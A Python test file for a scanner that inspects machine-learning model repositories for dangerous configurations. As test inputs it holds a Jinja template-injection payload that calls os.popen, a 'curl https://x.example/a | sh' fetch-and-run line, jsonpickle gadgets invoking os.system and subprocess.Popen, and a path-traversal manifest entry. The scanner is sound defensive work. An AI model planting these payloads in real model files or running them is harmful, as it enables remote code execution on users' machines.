"""Configurations of models: what they make a loader import and render, in every place that templates stand."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.scan.artefacts.result import Verdict
from tests.scan.artefacts.support import examined, fired, scan
from tests.scan.templates.chats import HEADERS, REAL

ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("tokenizer_config.json", {"tokenizer_class": "T", "chat_template": ESCAPE}),
        (
            "tokenizer_config.json",
            {"chat_template": [{"name": "a", "template": "x"}, {"name": "b", "template": ESCAPE}]},
        ),
        ("tokenizer_config.json", {"chat_template": {"default": "x", "rag": ESCAPE}}),
        ("chat_template.json", {"chat_template": ESCAPE}),
        ("processor_config.json", {"chat_template": ESCAPE}),
        ("other.json", {"deep": [{"prompt_template": ESCAPE}]}),
        ("other.json", {"anything": ESCAPE}),
    ],
)
def test_templates_wherever_they_stand(name: str, data: object) -> None:
    assert examined(json.dumps(data), name).verdict is Verdict.DANGEROUS


@pytest.mark.parametrize(
    "name", ["chat_template.jinja", "additional_chat_templates/tool_use.jinja", "prompts/a.j2", "p.template"]
)
def test_templates_as_files(name: str) -> None:
    assert examined(ESCAPE, name).verdict is Verdict.DANGEROUS
    assert examined(HEADERS, name).verdict is Verdict.SAFE


def test_a_model_of_the_library_is_safe() -> None:
    found = scan(
        {
            "config.json": json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"], "vocab_size": 9}),
            "tokenizer_config.json": json.dumps(
                {"tokenizer_class": "T", "chat_template": [{"name": n, "template": t} for n, t in REAL.items()]}
            ),
            "generation_config.json": json.dumps({"temperature": 0.6}),
            "special_tokens_map.json": json.dumps({"bos_token": "<s>"}),
            "model.safetensors.index.json": json.dumps({"weight_map": {"a": "model-00001-of-00001.safetensors"}}),
            "tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 1}}}),
            "adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "org/base", "r": 8}),
            "README.md": "---\nlicense: apache-2.0\nbase_model: org/base\nlanguage: [en, de]\n---\n# Model\n",
        }
    )
    assert found.verdict is Verdict.SAFE
    facts = {name: values for one in found.artefacts for name, values in one.facts.items()}
    assert facts["architecture"] == ["LlamaForCausalLM"]
    assert facts["licence"] == ["apache-2.0"]
    assert facts["base-model"] == ["org/base"]
    assert facts["language"] == ["en", "de"]


def test_where_code_of_the_repository_lies_is_explained() -> None:
    files = {
        "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "o/r--configuration_x.C"}}),
        "modeling_x.py": "import os\nos.system('curl https://x.example/a | sh')\n",
    }
    found = {one.path: one for one in scan(files).artefacts}
    assert fired(found["config.json"]) == {"repository-own-code", "repository-code-elsewhere"}
    lines = [line for _, said in found["config.json"].explanations for line in said]
    assert any("modeling_x.py" in line for line in lines)
    assert any("another repository" in line for line in lines)
    assert found["modeling_x.py"].verdict is Verdict.DANGEROUS


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        ({"peft_type": "LORA", "auto_mapping": {"parent_library": "os"}}, "repository-target-dangerous"),
        ({"peft_type": "LORA", "megatron_core": "acme.core"}, "repository-target-unknown"),
        ({"_class_name": ["pipeline", "P"]}, "repository-own-code"),
        ({"model_type": "m", "custom_pipelines": {"x": {"impl": "pipe.P"}}}, "repository-own-code"),
        ({"model_type": "m", "text_config": {"auto_map": {"AutoModel": "m.M"}}}, "repository-own-code"),
        ({"model_type": "m", "trust_remote_code": True}, "repository-own-code"),
    ],
)
def test_code_by_name(data: dict[str, object], rule: str) -> None:
    assert rule in fired(examined(json.dumps(data), "config.json"))


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "repository-target-dangerous"),
        ({"a": [{"py/object": "subprocess.Popen", "args": ["id"]}]}, "repository-target-dangerous"),
        ({"py/object": "acme.Net"}, "repository-target-unknown"),
    ],
)
def test_what_jsonpickle_imports(data: dict[str, object], rule: str) -> None:
    assert fired(examined(json.dumps(data), "state.json")) == {rule}
    assert fired(examined(json.dumps({"py/object": "numpy.ndarray", "note": "os.system"}), "state.json")) == set()


def test_parts_of_a_package_lie_in_it() -> None:
    entry = {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}
    assert fired(examined(json.dumps({"itemInfoEntries": {"A": entry}}), "Manifest.json")) == set()
    entry["path"] = "../../model.mlmodel"
    assert fired(examined(json.dumps({"itemInfoEntries": {"A": entry}}), "Manifest.json")) == {"model-reads-outside"}


def test_a_builder_beside_a_card_is_a_script_of_data() -> None:
    files = {
        "README.md": "---\nlicense: mit\n---\n",
        "other.py": "import datasets\nclass S(datasets.GeneratorBasedBuilder):\n    pass\n",
    }
    assert "repository-data-script" in {rule for one in scan(files).artefacts for rule in fired(one)}
    files["README.md"] = "# A program\n\n---\n"
    assert "repository-data-script" not in {rule for one in scan(files).artefacts for rule in fired(one)}


def test_what_cannot_be_read_is_not_safe() -> None:
    assert fired(examined('{"auto_map": ', "config.json")) == {"malformed-file"}
    assert fired(examined("[" * 100_000, "config.json")) == {"limit-reached"}
    assert fired(examined('{"chat_template": "{% if %}"}', "tokenizer_config.json")) == {"malformed-file"}
    assert fired(examined('{"a": "{% if %}"}', "any.json")) == set()
    assert fired(examined('{"auto_map": {}, "auto_map": {"A": "m.M"}}', "config.json")) >= {"duplicate-names"}


_KEYS = [
    "auto_map", "chat_template", "_target_", "weight_map", "_class_name", "x", "impl", "auto_mapping", "peft_type",
    "custom_pipelines", "target", "params",
]  # fmt: skip
_DATA = st.recursive(
    st.none() | st.booleans() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(_KEYS), inner, max_size=4),
    max_leaves=12,
)


@given(_DATA)
def test_any_configuration(data: object) -> None:
    for name in ("config.json", "modules.json", "a.index.json", "tokenizer.json"):
        assert "scanner-failed" not in fired(examined(json.dumps(data), name))
